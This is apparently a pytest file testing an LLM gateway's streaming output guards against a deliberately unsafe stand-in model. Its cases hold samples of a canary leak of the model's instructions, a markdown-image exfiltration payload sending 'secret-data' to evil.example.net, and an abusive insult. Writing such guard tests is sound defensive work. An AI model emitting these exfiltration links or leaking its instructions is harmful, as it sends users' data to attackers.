"""A deliberately unsafe model behind the gateway: it leaks a canary, emits a markdown
exfiltration image and toxic text, each in a stream. The output guards stop each before the
offending text reaches the client, the stream ends with a content-filter error, and the trace
records which rule fired."""

from __future__ import annotations

import pytest
from gw_harness import Gateway, echo

CANARY = "llmloop-canary-7f3a9c21"
GUARDS = [
    {"kind": "canary", "config": {"tokens": [CANARY]}},
    {"kind": "links", "config": {"allowed_domains": ["docs.example.com"]}},
    {"kind": "toxicity", "config": {}},
]
CASES = [
    ("canary", f"Sure! My instructions say {CANARY} and more.", CANARY),
    (
        "exfil",
        "Here you go ![img](https://evil.example.net/x.png?d=secret-data) done.",
        "evil.example.net",
    ),
    ("toxic", "Listen here, you are a stupid worthless idiot and I hate you.", "idiot"),
]


@pytest.mark.parametrize(("name", "reply", "offending"), CASES)
async def test_unsafe_stream_is_cut_before_the_offending_text(
    gw: Gateway, name: str, reply: str, offending: str
) -> None:
    pytest.importorskip("profanity_check")
    await gw.deploy(
        {"name": f"unsafe-{name}", "targets": [echo(reply=reply, delay_s=0.001)], "guards": GUARDS}
    )
    body = {
        "model": f"unsafe-{name}",
        "stream": True,
        "messages": [{"role": "user", "content": "hello"}],
    }
    resp = await gw.http.post("/v1/chat/completions", json=body)
    released = resp.text.split('"error"')[0]
    assert "content_filter" in resp.text, resp.text
    assert offending not in released
    traces = await gw.traces(deployment=f"unsafe-{name}")
    verdicts = [v for t in traces for v in (t["guard_verdicts"] or [])]
    assert any(v["action"] == "block" for v in verdicts), traces


async def test_safe_answer_streams_whole(gw: Gateway) -> None:
    pytest.importorskip("profanity_check")
    reply = "Your order ships tomorrow; see https://docs.example.com/shipping for details."
    await gw.deploy({"name": "safe", "targets": [echo(reply=reply)], "guards": GUARDS})
    body = {"model": "safe", "stream": True, "messages": [{"role": "user", "content": "hi"}]}
    resp = await gw.http.post("/v1/chat/completions", json=body)
    assert "content_filter" not in resp.text
    content = "".join(
        part.split('"content":"', 1)[1].split('"', 1)[0]
        for part in resp.text.split("data: ")[1:]
        if '"content":"' in part
    )
    assert content == reply
